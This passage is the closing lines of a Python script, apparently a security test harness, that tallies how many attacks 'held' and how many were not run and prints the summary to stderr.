    skipped = sum(v.observed.startswith("not run") for v in verdicts)
    print(f"\n{held} of {len(verdicts) - skipped} attacks held; {skipped} not run.", file=sys.stderr)


if __name__ == "__main__":
    main()

